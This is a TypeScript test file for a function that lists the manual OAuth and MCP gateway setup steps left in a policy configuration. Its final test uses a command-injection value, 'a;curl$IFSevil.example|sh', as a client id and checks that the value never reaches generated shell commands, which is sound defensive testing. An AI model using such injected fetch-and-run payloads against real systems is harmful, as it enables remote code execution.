import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { compileAccess, compileResource } from '../policy/compile.ts';
import { parsePolicy } from '../policy/parse.ts';
import { remainingSteps } from './steps.ts';

const installation = { idp: 'https://id.acme.example', ras: 'https://mcp.acme.example' };
const there = 'https://mcp.linear.app';

function access(text: string) {
  const parsed = parsePolicy(text, 'access');
  assert.ok(parsed.ok, JSON.stringify(parsed));
  return compileAccess(parsed.document, { version: 1, localRas: installation.ras });
}

function resource(text: string) {
  const parsed = parsePolicy(text, 'resource');
  assert.ok(parsed.ok, JSON.stringify(parsed));
  return compileResource(parsed.document, { version: 1, issuer: installation.ras, localIdp: installation.idp });
}

const index = access(`
servers:
  linear: { name: Linear, resource: ${there}/mcp, ras: ${there}, scopes: { read: {}, write: { risk: high } } }
  wiki: { name: Wiki, local: wiki, scopes: { read: {}, write: { risk: high }, "say:all": { risk: medium } } }
clients:
  code: { name: Code, redirect_uris: [http://localhost/a], client_ids: { ${there}: code-there, local: code } }
  zed: { name: Zed, metadata: https://zed.dev/c.json, client_ids: { ${there}: https://zed.dev/c.json } }
  open: { name: Open, public: true, redirect_uris: [http://localhost/b], client_ids: { ${there}: open } }
  away: { name: Away, redirect_uris: [http://localhost/c] }
`);
const steps = (server: string, more: Partial<Parameters<typeof remainingSteps>[2]> = {}) => {
  const found = index.servers.get(server);
  assert.ok(found);
  return remainingSteps(index, found, { installation, resource: undefined, secrets: [], ...more });
};
const heads = (found: ReturnType<typeof steps>) =>
  found.map(({ about, client }) => [about, client].filter(Boolean).join(' '));

describe('what remains to be done by hand', () => {
  test('at somebody else’s authorization server: to take our ID-JAGs, and to know each client', () => {
    const found = steps('linear');
    assert.deepEqual(heads(found), [
      'trust_there',
      'client_there code',
      'client_there zed',
      'secret code',
      'set_up code',
      'set_up zed',
    ]);
    assert.deepEqual(found[0]?.text?.split('\n'), [
      'Issuer:   https://id.acme.example',
      'Keys:     https://id.acme.example/jwks',
      `Audience: ${there}`,
      `Resource: ${there}/mcp`,
    ]);
    assert.equal(found[1]?.text, 'client_id: code-there');
    assert.equal(found[3]?.text, 'credence client secret new idp code');
  });

  test('a client that has a secret needs no other', () => {
    assert.ok(!heads(steps('linear', { secrets: [{ clientId: 'code' }] })).includes('secret code'));
    assert.ok(heads(steps('linear', { secrets: [{ clientId: 'zed' }] })).includes('secret code'));
  });

  test('here: a server that the resource document does not have, and a client that may not redeem', () => {
    const found = steps('wiki', { resource: resource('servers: {}\n') });
    assert.deepEqual(heads(found), ['guard_here', 'client_here code', 'secret code', 'set_up code']);
    assert.equal(
      found[0]?.text,
      'servers:\n  "wiki": { upstream: { http: URL }, scopes: { "read": {}, "write": { risk: high }, "say:all": { risk: medium } }, tools: { "*": "write" } }',
    );
    assert.equal(found[1]?.text, 'clients:\n  "code": {}\n\ncredence client secret new ras code');
  });

  test('here: what the gateway calls it is in its address, and not what the access document calls it', () => {
    const own = access(
      'servers: { wiki: { local: pages, scopes: { read: {} } }, odd: { resource: https://mcp.acme.example/odd, ras: https://mcp.acme.example, scopes: { read: {} } } }',
    );
    const guard = (id: string) => {
      const server = own.servers.get(id);
      assert.ok(server);
      const [found] = remainingSteps(own, server, { installation, resource: resource('servers: {}\n'), secrets: [] });
      return found;
    };
    assert.match(guard('wiki')?.text ?? '', /^servers:\n {2}"pages": /);
    assert.deepEqual([guard('odd')?.about, guard('odd')?.text], ['guard_here', null]);
    assert.match(guard('odd')?.words ?? '', /https:\/\/mcp\.acme\.example\/NAME\/mcp, and nowhere else/);
  });

  test('here: a draft that does it has to be published; what it does not do remains', () => {
    const drafted = (text: string) => ({ id: 'dr_1', name: 'Guard Wiki', index: resource(text) });
    const server = 'servers: { wiki: { upstream: { http: "http://localhost:1/mcp" }, scopes: { read: {} } } }\n';
    const around = { resource: resource('servers: {}\n'), secrets: [{ clientId: 'code' }] };
    const half = steps('wiki', { ...around, drafted: drafted(server) });
    assert.deepEqual(heads(half), ['publish_here', 'client_here code', 'set_up code']);
    assert.deepEqual([half[0]?.draft, half[0]?.text], ['dr_1', null]);
    const all = `${server}clients: { code: {} }\ntrust: { local: { clients: [code], accounts: known, keys: discovery } }\n`;
    assert.deepEqual(heads(steps('wiki', { ...around, drafted: drafted(all) })), ['publish_here', 'set_up code']);
  });

  test('here: what is in force is done, though a draft that was begun before lacks it', () => {
    const other = 'clients: { other: {} }\ntrust: { local: { clients: [other], accounts: known, keys: discovery } }\n';
    const drafted = { id: 'dr_1', name: 'Guard Other', index: resource(other) };
    const around = { secrets: [{ clientId: 'code' }], drafted };
    const server = 'servers: { wiki: { upstream: { http: "http://localhost:1/mcp" }, scopes: { read: {} } } }\n';
    const known = `${server}clients: { code: {} }\n`;
    const trusted = `${known}trust: { local: { clients: [code], accounts: known, keys: discovery } }\n`;
    assert.deepEqual(heads(steps('wiki', { ...around, resource: resource(trusted) })), ['publish_here', 'set_up code']);
    const half = steps('wiki', { ...around, resource: resource(known) });
    assert.deepEqual(heads(half), ['publish_here', 'client_here code', 'set_up code']);
    assert.equal(half[1]?.text, '"code"', 'which is known');
  });

  test('here: nothing that can be seen to be done', () => {
    const done = resource(`
servers: { wiki: { upstream: { http: "http://localhost:1/mcp" }, scopes: { read: {}, write: { risk: high } } } }
clients: { code: {} }
trust: { local: { clients: [code], accounts: known, keys: discovery } }
`);
    assert.deepEqual(heads(steps('wiki', { resource: done, secrets: [{ clientId: 'code' }] })), ['set_up code']);
    assert.deepEqual(heads(steps('wiki')), ['secret code', 'set_up code'], 'where nothing is guarded, of that nothing');
  });

  const wiki = 'servers: { wiki: { upstream: { http: "http://localhost:1/mcp" }, scopes: { read: {} } } }';
  const of = (clients: string, more: string, installed = installation) => {
    const own = access(`servers: { wiki: { local: wiki, scopes: { read: {} } } }\nclients: { ${clients} }\n`);
    const server = own.servers.get('wiki');
    assert.ok(server);
    const around = { installation: installed, resource: resource(`${wiki}\n${more}\n`), secrets: [] };
    return remainingSteps(own, server, around).filter(({ about }) => about === 'client_here');
  };
  const code = 'code: { redirect_uris: [http://localhost/a], client_ids: { local: code } }';

  test('here: a client that the resource document knows and lets nobody speak for', () => {
    const trusts: [trust: string, left: number][] = [
      ['', 1],
      ['trust: { local: { clients: [other], accounts: known, keys: discovery } }', 1],
      ['trust: { https://other.example: { clients: [code], accounts: known, keys: discovery } }', 1],
      ['trust: { local: { clients: [other, code], accounts: known, keys: discovery } }', 0],
      [`trust: { ${installation.idp}: { clients: [code], accounts: known, keys: discovery } }`, 0],
    ];
    for (const [trust, left] of trusts) {
      const found = of(code, `clients: { code: {}, other: {} }\n${trust}`);
      assert.equal(found.length, left, trust);
      if (left === 0) continue;
      assert.equal(found[0]?.text, '"code"');
      assert.match(found[0]?.words ?? '', /trust\.local\.clients/);
    }
  });

  test('here: a server that the identity provider may not speak for', () => {
    const guard = (trust: string) => {
      const own = access(`servers: { wiki: { local: wiki, scopes: { read: {} } } }\nclients: { ${code} }\n`);
      const server = own.servers.get('wiki');
      assert.ok(server);
      const there = 'servers: { wiki: { scopes: { read: {} } }, docs: { scopes: { read: {} } } }';
      const around = { resource: resource(`${there}\nclients: { code: {} }\n${trust}\n`), secrets: [] };
      return remainingSteps(own, server, { installation, ...around }).filter(({ about }) => about === 'guard_here');
    };
    const speaker = 'accounts: known, clients: [code]';
    const local = (servers: string) =>
      guard(`trust: { local: { keys: discovery, ${speaker}, servers: { ${servers} } } }`);
    const [step] = local('docs: all');
    assert.equal(step?.text, '"wiki": all');
    assert.match(step?.words ?? '', /trust\.local\.servers/);
    for (const trust of [
      '',
      `trust: { https://other.example: { keys: discovery, ${speaker}, servers: { docs: all } } }`,
      `trust: { local: { keys: discovery, ${speaker} } }`,
      `trust: { local: { keys: discovery, tenants: { a: { ${speaker}, servers: { docs: all } }, b: { ${speaker} } } } }`,
    ])
      assert.deepEqual(guard(trust), [], trust);
    assert.deepEqual(local('docs: all, wiki: [read]'), []);
  });

  test('here: a client that is known by its metadata document has no secret, whatever its entry is called', () => {
    const zed = 'zed: { metadata: https://zed.dev/c.json, client_ids: { local: https://zed.dev/c.json } }';
    assert.deepEqual(
      of(zed, '').map(({ text }) => text),
      ['clients:\n  "zed": { metadata: "https://zed.dev/c.json" }'],
    );
    const known = 'clients: { editor: { metadata: https://zed.dev/c.json } }';
    assert.deepEqual(
      of(zed, `${known}\ntrust: { local: { clients: [editor], accounts: known, keys: discovery } }`),
      [],
    );
    assert.equal(of(zed, known)[0]?.text, '"editor"');
  });

  test('T40: an id that is no name is no word of a command', () => {
    const evil = 'a;curl$IFSevil.example|sh';
    const [found] = of(`code: { redirect_uris: [http://localhost/a], client_ids: { local: '${evil}' } }`, '');
    assert.equal(found?.text, null);
    assert.ok(!JSON.stringify(found).includes('evil'));
  });
});
